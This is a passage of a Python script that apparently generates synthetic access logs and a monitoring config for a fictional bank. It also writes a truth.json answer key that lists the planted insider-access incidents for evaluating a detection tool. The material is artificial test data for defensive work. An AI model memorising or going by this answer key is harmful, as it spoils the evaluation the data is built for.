        (o / "people.csv").write_text("\n".join(rows) + "\n")
        (o / "branches.csv").write_text(
            "branch,name\n" + "".join(f"{c},{n}\n" for c, n, _ in BRANCHES)
        )
        base = ["crm-customer", "crm-accounts", "crm-transactions", "crm-search"]
        use = {
            "teller": base + ["visit"],
            "part": base + ["visit"],
            "officer": base + ["loan-case", "loan-credit", "loan-cases"],
            "manager": base + ["loan-case", "loan-credit", "loan-cases", "crm-export", "visit"],
            "deputy": base + ["crm-export", "visit"],
            "marketing": base + ["crm-segments", "crm-export"],
            "review": base + ["loan-case", "loan-credit", "loan-cases"],
            "it": base + ["crm-admin"],
            "agent": ["cti-customer", "cti-card"],
            "night": ["cti-customer", "cti-card"],
            "sv": ["cti-customer", "cti-card"],
        }
        seen = {}
        for p in self.people:
            if p.role != "ext":
                for x in use.get(p.role, base):
                    seen[(p.dept, x)] = ["", p.dept, x, "", ""]
        seen.update(
            {
                ("svc", x): [self.svc[k].ad, "", x, "", ""]
                for k, x in (("aml", "crm-transactions"), ("batch", "crm-accounts"))
            }
        )
        (o / "privileges.csv").write_text(
            "user,department,resource,from,to\n"
            + "".join(",".join(x) + "\n" for x in list(seen.values()) + self.priv)
        )
        w = (
            [(s, "decoy", "おとり") for s in self.decoys]
            + [(s, "vip", "注意顧客") for s in self.vips]
            + [(s, "staff", "行員の口座") for s in self.staffcif.values()]
        )
        (o / "watch.csv").write_text(
            "subject,kind,user,reason\n" + "".join(f"{s},{k},,{y}\n" for s, k, y in w)
        )
        nginx = (
            '{"time":"$time_iso8601","remote_addr":"$remote_addr","xff":"$http_x_forwarded_for","remote_user":"$remote_user","sid":"$cookie_ibsessid","host":"$host","request":"$request",'
            '"status":$status,"bytes":$body_bytes_sent,"rt":$request_time,"referer":"$http_referer","ua":"$http_user_agent"}'
        )
        (o / "mimamori.yaml").write_text(YAML.replace("@NGINX@", nginx))

    def run(self) -> None:
        """Plans, plays the days, writes the truth."""
        self.outdir.mkdir(parents=True, exist_ok=True)
        self.early()
        self.choose()
        self.later()
        final = self.days[-1]
        for d in self.days:
            for go in self.pre[d]:
                go()
            self.day(d)
            for note, fn in self.plan[d]:
                self.tag = note
                fn(d)
                self.tag = None
            self.flush(d - timedelta(2), final)
        self.flush(final, final)
        self.settings()
        day = lambda x: x.isoformat()
        self.incidents = [
            x for x in self.incidents if x.days and (x.lines or x.family == "silence")
        ]
        self.incidents.sort(key=lambda x: (min(x.days), x.what))
        clip = lambda x: sorted(d for d in x.days if self.days[0] <= d <= final)
        truth = {
            "seed": self.seed,
            "days": [day(d) for d in self.days],
            "about": "瀬戸波銀行（架空）。十二の店と約二百人の行員・パート、委託のコールセンター（昼夜）、本部。社内の顧客情報システム（IIS 二台）、融資システム、コールセンターの画面、"
            "各店の受付サーバー、負荷分散装置の内側にあるインターネットバンキング（約二千三百契約）、公開サイト。",
            "incidents": [
                {
                    "id": f"i{k + 1:02d}",
                    "grade": x.grade,
                    "family": x.family,
                    "first_day": day(clip(x)[0]),
                    "last_day": day(clip(x)[-1]),
                    "site_ids": sorted(x.sites),
                    "actors": list(dict.fromkeys(x.actors)),
                    "what": x.what,
                    "how_seen": x.why,
                    "lines": x.lines,
                    "woken": x.woken,
                }
                for k, x in enumerate(self.incidents)
            ],
            "annoyances": [
                {
                    "id": f"a{k + 1:02d}",
                    "first_day": day(clip(x)[0]),
                    "last_day": day(clip(x)[-1]),
                    "site_ids": sorted(x.sites),
                    "actors": x.actors,
                    "what": x.what,
                    "why_not": x.why,
                }
                for k, x in enumerate(
                    sorted((x for x in self.annoy if clip(x)), key=lambda x: (min(x.days), x.what))
                )
            ],
        }
        (self.outdir / "truth.json").write_text(
            json.dumps(truth, ensure_ascii=False, indent=1) + "\n"
        )


YAML = r"""# 瀬戸波銀行 アクセス記録の見守り（事務リスク管理室）
timezone: Asia/Tokyo
locale: ja
business_hours: {days: [mon, tue, wed, thu, fri], from: "07:30", to: "20:00", holidays: JP}
context: {people: people.csv, privileges: privileges.csv, watch: watch.csv}
user_types:
  - {pattern: '^SETO\\svc_', type: system}
  - {pattern: '^SETO\\x9', type: contractor}
  - {pattern: '^SETO\\b[0-9]{5}$', type: staff}
  - {pattern: '^b[0-9]{5}$', type: staff}
  - {pattern: '^cc190$', type: staff}
  - {pattern: '^cc[0-9]{3}$', type: contractor}
  - {pattern: '^[0-9]{8}$', type: customer}
resources:
  crm:
    - {id: crm-search, kind: list, path: /crm/search, methods: [POST], level: 2, categories: [name]}
    - {id: crm-customer, kind: record, path: "/crm/customer/{subject}", level: 2, categories: [name, address, phone, birth_date]}
    - {id: crm-accounts, kind: record, path: "/crm/customer/{subject}/accounts", level: 3, categories: [name, account]}
    - {id: crm-transactions, kind: record, path: "/crm/customer/{subject}/transactions", level: 3, categories: [name, account]}
    - {id: crm-segments, kind: list, path: /crm/segments, level: 2, categories: [name]}
    - {id: crm-export, kind: export, path: "/crm/export/*", level: 3, categories: [name, address, phone, account]}
    - {id: crm-admin, kind: admin, path: "/crm/admin/*", level: 1}
  cti:
    - {id: cti-login, kind: login, path: /cti/login, methods: [POST], success: [302], failure: [401]}
    - {id: cti-logout, kind: logout, path: /cti/logout}
    - {id: cti-customer, kind: record, path: "/cti/customer/{subject}", level: 3, categories: [name, address, phone, account]}
    - {id: cti-card, kind: record, path: "/cti/card/{subject}/stop", level: 2, categories: [name]}
  loan:
    - {id: loan-login, kind: login, path: /loan/login, methods: [POST], success: [302], failure: [401]}
    - {id: loan-cases, kind: list, path: /loan/cases, level: 2, categories: [name]}
    - {id: loan-case, kind: record, path: "/loan/case/{subject}", level: 3, categories: [name, address, phone, income]}
    - {id: loan-credit, kind: record, path: "/loan/credit/{subject}", level: 3, categories: [name, credit]}
  ib:
    - {id: ib-login, kind: login, path: /ib/login, methods: [POST], success: [302], failure: [401]}
    - {id: ib-logout, kind: logout, path: /ib/logout}
    - {id: ib-statement, kind: record, path: "/ib/api/accounts/{subject}/statement", level: 3, categories: [name, account]}
    - {id: ib-payee, kind: record, path: "/ib/api/payee/{subject}/name", level: 1, categories: [name]}
  www:
    - {id: reservation, kind: record, path: "/reserve/view?no={subject}", level: 1, categories: [name, phone]}
  counter:
    - {id: visit, kind: record, path: "/uketsuke/visit/{subject}", level: 1, categories: [name]}
sites:
  - {id: www, group: main, domains: [www.setonami-bank.example, saiyo.setonami-bank.example], logs: ["www/access_log-*"], format: vhost_combined, resources: www, hours: always}
  - {id: ib, group: main, domains: [ib.setonami-bank.example], logs: ["ib/ib-access-*"], format: 'escape=json @NGINX@', trusted_proxies: [10.60.0.0/24], resources: ib, hours: always}
  - {id: crm, group: main, domains: [crm.setonami.internal.example], logs: ["crm/web*/u_ex*.log"], format: iis_w3c, resources: crm, hours: business}
  - {id: cti, group: main, domains: [cti.setonami.internal.example], logs: ["cti/cti_access.*.ltsv"], resources: cti, hours: always,
     format: "time:%t\thost:%h\tuser:%u\treq:%r\tstatus:%>s\tsize:%b\treqtime_us:%D\treferer:%{Referer}i\tua:%{User-agent}i"}
  - {id: loan, group: main, domains: [loan.setonami.internal.example], logs: ["loan/loan_access_log.*"], resources: loan, hours: business,
     format: '%h %u %t "%r" %>s %b %D "%{Referer}i" "%{User-Agent}i" %{LOANSESSID}C'}
  - {id: "counter-{branch}", group: branches, roster: branches.csv, domains: ["uketsuke-{branch}.setonami.internal.example"], logs: ["counter/{branch}/access.log.*"], format: combined, resources: counter, hours: business}
"""


def main() -> None:
    """Reads the arguments and draws the bank."""
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--seed", type=int, required=True)
    ap.add_argument("--days", type=int, default=35)
    ap.add_argument("--out", type=Path, required=True)
    a = ap.parse_args()
    Bank(a.seed, a.days, a.out).run()


if __name__ == "__main__":
    main()
